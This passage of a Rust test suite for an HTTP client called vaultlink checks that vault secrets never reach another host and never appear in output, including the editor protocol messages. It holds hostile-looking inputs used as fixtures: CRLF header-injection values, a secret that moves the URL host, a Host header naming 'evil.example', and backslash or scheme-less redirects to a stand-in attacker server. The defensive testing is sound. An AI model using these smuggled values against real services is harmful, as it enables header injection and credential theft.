        "{third}"
    );
    let refused = send_at("/steal?").unwrap_err();
    assert!(
        refused["message"]
            .as_str()
            .unwrap()
            .contains("through the response to `first`"),
        "{refused}"
    );
    let refused = send_at("/steal-again?").unwrap_err();
    assert!(
        refused["message"]
            .as_str()
            .unwrap()
            .contains("through the response to `third`"),
        "{refused}"
    );
    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
    let transcript: String = client.transcript().into_iter().map(|(_, m)| m).collect();
    assert_no_secret("the LSP messages", &transcript);
    client.shutdown();
}

#[test]
fn a_host_header_naming_another_host_is_refused_with_a_secret() {
    let s = setup(
        "//- /front.http\n### fronted\nGET ECHO/x\nHost: evil.example\nX-Key: {{vault:api-token}}\n\n### same host\nGET ECHO/x\nHost: 127.0.0.1:1234\nX-Key: {{vault:api-token}}\n\n### no secret\nGET ECHO/x\nHost: evil.example\n",
    );
    let run = s.send(&["front.http", "--request", "fronted"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains(
            "its `Host` header names `evil.example`, another host than the URL's `127.0.0.1`"
        ),
        "{}",
        run.stderr
    );
    assert!(s.echo.requests().is_empty());
    assert!(s.emu.requests().is_empty(), "nothing was fetched");

    let run = s.send(&["front.http", "--request", "3"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        header(&s.echo.requests()[0], "host"),
        Some("evil.example"),
        "without a secret the header is the user's to set"
    );
    let run = s.send(&["front.http", "--request", "2"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
}

#[test]
fn vaultlinks_own_credentials_are_never_sent_nor_shown() {
    let s = setup(
        "//- /.env\nAZURE_CLIENT_SECRET=from-dotenv-credential\n//- /creds.http\n### env\nGET ECHO/x?k={{$processEnv AZURE_CLIENT_SECRET}}\n\n### dotenv\nGET ECHO/x?k={{$dotenv AZURE_CLIENT_SECRET}}\n\n### aws\nGET ECHO/x\nX-K: {{$processEnv aws_secret_access_key}}\n\n### copy\nGET ECHO/x?k={{$processEnv VL_COPY}}\n",
    );
    let credential = s
        .env()
        .into_iter()
        .find(|(k, _)| k == "AZURE_CLIENT_SECRET")
        .unwrap()
        .1;
    let mut env = s.env();
    env.push((
        "AWS_SECRET_ACCESS_KEY".to_owned(),
        "aws-credential-value".to_owned(),
    ));
    env.push(("VL_COPY".to_owned(), credential.clone()));
    let send = |args: &[&str]| {
        let mut all = vec!["send", "creds.http"];
        all.extend_from_slice(args);
        run_with(s.project.dir.path(), &all, &env)
    };
    for request in ["env", "dotenv", "aws"] {
        for dry in [true, false] {
            let mut args = vec!["--request", request];
            if dry {
                args.push("--dry-run");
            }
            let run = send(&args);
            assert_eq!(run.code, 1, "{request}: {}\n{}", run.stdout, run.stderr);
            assert!(
                run.stderr.contains(
                    "is a credential vaultlink signs in with, and it is never sent or shown"
                ),
                "{request}: {}",
                run.stderr
            );
            for value in [
                &credential,
                "from-dotenv-credential",
                "aws-credential-value",
            ] {
                assert!(!run.stdout.contains(value) && !run.stderr.contains(value));
            }
        }
    }
    assert!(s.echo.requests().is_empty(), "{:#?}", s.echo.requests());

    // The same value under another name is sent, but never shown.
    let run = send(&["--request", "copy", "--json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(s.echo.requests().len(), 1);
    assert!(run.stdout.contains("k=***"), "{}", run.stdout);
    assert!(!run.stdout.contains(&credential), "{}", run.stdout);
}

#[test]
fn redirects_spelled_with_a_backslash_or_without_a_scheme_are_not_followed_with_a_secret() {
    let evil = Echo::start_at("127.0.0.2");
    for location in [
        "/\\127.0.0.2:PORT/x",
        "//127.0.0.2:PORT/x",
        "\\\\127.0.0.2:PORT/x",
    ] {
        let to: String = url::form_urlencoded::byte_serialize(
            location
                .replace("PORT", &evil.port().to_string())
                .as_bytes(),
        )
        .collect();
        let s = setup(&format!(
            "//- /r.http\nGET ECHO/redirect?to={to}\nX-Key: {{{{vault:api-token}}}}\n"
        ));
        let run = s.send(&["r.http"]);
        assert_eq!(run.code, 0, "{location}: {}", run.stderr);
        assert!(
            run.stderr
                .contains("another origin; the redirect was not followed"),
            "{location}: {}",
            run.stderr
        );
    }
    assert!(evil.requests().is_empty());
}

#[test]
fn a_secret_in_a_host_or_a_value_that_moves_the_host_is_refused() {
    let evil = Echo::start_at("127.0.0.2");
    let s = setup_with(
        "//- /h.http\n### in the host\nGET http://{{vault:api-token}}.localhost/x\n\n### moves the host\nGET http://u:{{vault:moving}}@HOSTPORT/x\n\n### through a variable\n@t = {{vault:limited}}\nGET ECHO/x\nX-Key: {{t}}\n",
        &[("moving", &format!("p@127.0.0.2:{}/", evil.port()))],
    );
    let file = s.project.path("h.http");
    let text = std::fs::read_to_string(&file)
        .unwrap()
        .replace("HOSTPORT", &format!("127.0.0.1:{}", s.echo.port()));
    std::fs::write(&file, text).unwrap();
    let run = s.send(&["h.http", "--request", "1"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains("a `{{vault:…}}` reference is part of the URL's host"),
        "{}",
        run.stderr
    );
    let run = s.send(&["h.http", "--request", "2"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains("the value of a secret changes the host of"),
        "{}",
        run.stderr
    );
    let run = s.send(&["h.http", "--request", "3"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains("the secret `limited` may not be sent to `127.0.0.1`"),
        "{}",
        run.stderr
    );
    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
    assert!(s.echo.requests().is_empty());
}

#[test]
fn crlf_from_a_secret_or_a_variable_never_reaches_the_wire() {
    let s = setup_with(
        "//- /crlf.http\n### secret\nGET ECHO/x\nX-A: {{vault:crlf}}\n\n### variable\nGET ECHO/x\nX-A: {{$processEnv VL_CRLF}}\n",
        &[("crlf", "a\r\nX-Injected: 1")],
    );
    let mut env = s.env();
    env.push(("VL_CRLF".to_owned(), "b\r\nX-Injected: 2".to_owned()));
    for request in ["secret", "variable"] {
        let run = run_with(
            s.project.dir.path(),
            &["send", "crlf.http", "--request", request],
            &env,
        );
        assert_eq!(run.code, 1, "{request}: {}", run.stderr);
        assert!(
            run.stderr.contains("is not a valid header value"),
            "{}",
            run.stderr
        );
    }
    assert!(s.echo.requests().is_empty());
}

/// Where `text` still holds `value` whole: as is, or decoded once from percent-encoding
/// (with or without `+` for spaces), JSON escapes, base64 or base64url (from each of four
/// starting characters) or hex (from each of two starting digits). Decoding here is
/// independent of how vaultlink masks.
fn leak(text: &str, value: &str) -> Option<&'static str> {
    let decoded = |v: &str| {
        String::from_utf8_lossy(&percent_encoding::percent_decode_str(v).collect::<Vec<u8>>())
            .into_owned()
    };
    // A server that decodes URLs or forms gets the value decoded: that is the value too.
    // A URL drops tabs and line breaks: the value without them is the value too.
    let stripped = value.replace(['\t', '\n', '\r'], "");
    [value.to_owned(), stripped]
        .iter()
        .flat_map(|s| [s.clone(), s.replace('+', " ")])
        .flat_map(|p| [decoded(&p), p])
        .find_map(|v| leak_of(text, &v))
}

fn leak_of(text: &str, value: &str) -> Option<&'static str> {
    use base64::Engine as _;
    let v = value.as_bytes();
    let has = |b: &[u8]| b.windows(v.len()).any(|w| w == v);
    if has(text.as_bytes()) {
        return Some("raw");
    }
    if has(&percent_encoding::percent_decode_str(text).collect::<Vec<u8>>())
        || has(&percent_encoding::percent_decode_str(&text.replace('+', " ")).collect::<Vec<u8>>())
    {
        return Some("percent-encoded");
    }
    if has(unescape_json(text).as_bytes()) {
        return Some("JSON-escaped");
    }
    let runs = |is: fn(u8) -> bool| -> Vec<&str> {
        text.split(|c: char| !c.is_ascii() || !is(c as u8))
            .filter(|r| r.len() >= 4)
            .collect()
    };
    for (name, is, engine) in [
        (
            "base64",
            (|c: u8| c.is_ascii_alphanumeric() || c == b'+' || c == b'/') as fn(u8) -> bool,
            base64::engine::general_purpose::STANDARD_NO_PAD,
        ),
        (
            "base64url",
            |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_',
            base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ),
    ] {
        for run in runs(is) {
            for start in 0..4.min(run.len()) {
                let part = &run[start..];
                let part = &part[..part.len() / 4 * 4];
                if let Ok(bytes) = engine.decode(part)
                    && has(&bytes)
                {
                    return Some(name);
                }
            }
        }
    }
    for run in runs(|c| c.is_ascii_hexdigit()) {
        for start in 0..2 {
            let bytes: Vec<u8> = run.as_bytes()[start..]
                .chunks_exact(2)
                .filter_map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
                .collect();
            if has(&bytes) {
                return Some("hex");
            }
        }
    }
    None
}

/// `text` with JSON string escapes (`\"`, `\/`, `\n`, `\uXXXX` with surrogate pairs) decoded.
fn unescape_json(text: &str) -> String {
    let mut out = String::new();
    let mut units: Vec<u16> = Vec::new();
    let mut chars = text.chars().peekable();
    let flush = |units: &mut Vec<u16>, out: &mut String| {
        out.extend(char::decode_utf16(units.drain(..)).map(|c| c.unwrap_or('\u{fffd}')));
    };
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('u') => {
                    chars.next();
                    let hex: String = chars.by_ref().take(4).collect();
                    if let Ok(u) = u16::from_str_radix(&hex, 16) {
                        units.push(u);
                        continue;
                    }
                    flush(&mut units, &mut out);
                    out.push_str(&hex);
                    continue;
                }
                Some(&e) => {
                    chars.next();
                    flush(&mut units, &mut out);
                    out.push(match e {
                        'n' => '\n',
                        'r' => '\r',
                        't' => '\t',
                        other => other,
                    });
                    continue;
                }
                None => {}
            }
        }
        flush(&mut units, &mut out);
        out.push(c);
    }
    flush(&mut units, &mut out);
    out
}

/// Requests that put the secret `v` in every part of a request, to an echo server that
/// sends it back as is and re-encoded (`/enc`), and to an address that refuses connections.
const PLACES: &str = r#"//- /places.http
### query
GET ECHO/enc?k={{vault:v}}&n=1

### path
GET ECHO/enc/{{vault:v}}/x

### fragment
GET ECHO/enc#{{vault:v}}

### userinfo
GET http://u:{{vault:v}}@127.0.0.1:PORT/enc-userinfo

### header
GET ECHO/enc
X-Secret: {{vault:v}}

### basic
GET ECHO/enc
Authorization: Basic u {{vault:v}}

### json body
POST ECHO/echo
Content-Type: application/json

{"v": "{{vault:v}}"}

### form body
POST ECHO/enc
Content-Type: application/x-www-form-urlencoded

k={{vault:v}}&n=1

### unreachable
GET http://127.0.0.1:1/?k={{vault:v}}
"#;

/// Sends every request of [`PLACES`] with `value` as the secret, from the command line
/// (text, `--json`, `--dry-run`) and from the editor, and checks that no output, message
/// or answer holds any form of it.
fn check_every_output_masks(value: &str) -> Vec<Got> {
    let s = setup_with(PLACES, &[("v", value)]);
    let places = s.project.path("places.http");
    let text = std::fs::read_to_string(&places)
        .unwrap()
        .replace("PORT", &s.echo.port().to_string());
    std::fs::write(&places, &text).unwrap();
    let check = |what: &str, out: &str| {
        if let Some(form) = leak(out, value) {
            panic!("the value {value:?} is in {what}, {form}:\n{out}");
        }
    };
    for args in [
        &["--all"][..],
        &["--all", "--json"],
        &["--all", "--dry-run"],
        &["--all", "--dry-run", "--json"],
    ] {
        let mut all = vec!["places.http"];
        all.extend_from_slice(args);
        let run = s.send(&all);
        assert!(
            run.stdout.contains("HTTP/1.1 200")
                || run.stdout.contains("\"status\":200")
                || args.contains(&"--dry-run"),
            "{args:?}: {}\n{}",
            run.stdout,
            run.stderr
        );
        check(&format!("the stdout of send {args:?}"), &run.stdout);
        check(&format!("the stderr of send {args:?}"), &run.stderr);
    }
    let sent = s.echo.requests();
    assert!(sent.len() >= 6, "most requests went out: {sent:#?}");

    let env = s.env();
    let mut client = Client::start_with(
        s.project.dir.path(),
        Options {
            env: &env,
            ..Options::default()
        },
    );
    let uri = client.open(&places, &text);
    for (line, l) in text.lines().enumerate() {
        if l.starts_with("GET ") || l.starts_with("POST ") {
            let answer = client.request(
                "workspace/executeCommand",
                json!({
                    "command": "vaultlink.sendRequest",
                    "arguments": [{ "uri": uri, "position": { "line": line, "character": 0 } }]
                }),
            );
            let answer = match answer {
                Ok(v) | Err(v) => v.to_string(),
            };
            check(&format!("the editor's answer for `{l}`"), &answer);
        }
    }
    let transcript: String = client.transcript().into_iter().map(|(_, m)| m).collect();
    check("the LSP messages", &transcript);
    check("the server's stderr", &client.stderr());
    client.shutdown();
    sent
}

#[test]
fn a_value_with_spaces_slashes_and_quotes_is_masked_in_urls_userinfo_and_errors() {
    check_every_output_masks("my pass/word \"q\"+%41");
    // Without a `/`, the value fits in the URL's userinfo, which is sent as Basic; the tab
    // is dropped from a URL.
    let value = "my pass\tword \"q\"+%41é";
    let sent = check_every_output_masks(value);
    let userinfo = sent
        .iter()
        .find(|g| g.target == "/enc-userinfo")
        .unwrap_or_else(|| panic!("{sent:#?}"));
    assert!(
        header(userinfo, "authorization").is_some_and(|a| a.starts_with("Basic ")),
        "{userinfo:#?}"
    );
}

#[test]
fn a_value_echoed_as_base64_hex_or_unicode_escapes_is_masked() {
    let s = setup("//- /e.http\nGET ECHO/enc\nX-Secret: {{vault:api-token}}\n");
    let run = s.send(&["e.http"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stdout.matches("***").count(), 18, "{}", run.stdout);
    if let Some(form) = leak(&run.stdout, SECRET) {
        panic!("the secret is in the output, {form}:\n{}", run.stdout);
    }
}

#[test]
fn no_output_holds_any_form_of_random_values() {
    use rand::Rng as _;
    const ALPHABET: &[&str] = &[
        "a", "Z", "0", "9", " ", "/", "\"", "+", "%", "%2F", "é", "€", "😀", "\\", "&", "=", "?",
        "#", "@", ":", "'", "<", ">", "~", "`", "^", "|", ";", ",", "$", "!", "*", "(", "[", "\t",
    ];
    let mut rng = rand::rng();
    for _ in 0..4 {
        let len = rng.random_range(8..20);
        let mut value = String::from("Rv");
        for _ in 0..len {
            value.push_str(ALPHABET[rng.random_range(0..ALPHABET.len())]);
        }
        check_every_output_masks(&value);
    }
}

#[test]
fn names_from_the_dotenv_file_are_sent_as_check_reads_them() {
    let s = setup(
        "//- /.env\nAPI_PATH=/from-dotenv\nAZURE_CLIENT_SECRET=dotenv-credential\n//- /d.http\n### plain\nGET ECHO{{API_PATH}}?q=1\n\n### credential\nGET ECHO/x?k={{AZURE_CLIENT_SECRET}}\n\n### missing\nGET ECHO/{{nowhere}}\n",
    );
    let run = s.send(&["d.http", "--request", "plain"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let got = s.echo.requests();
    assert_eq!(got.len(), 1, "{got:#?}");
    assert_eq!(got[0].target, "/from-dotenv?q=1");

    for (request, name) in [
        ("credential", "AZURE_CLIENT_SECRET"),
        ("missing", "nowhere"),
    ] {
        let run = s.send(&["d.http", "--request", request]);
        assert_eq!(run.code, 1, "{request}: {}\n{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains(&format!("undefined variable `{name}`")),
            "{request}: {}",
            run.stderr
        );
        assert!(
            !run.stdout.contains("dotenv-credential") && !run.stderr.contains("dotenv-credential")
        );
    }
    assert_eq!(s.echo.requests().len(), 1);
}
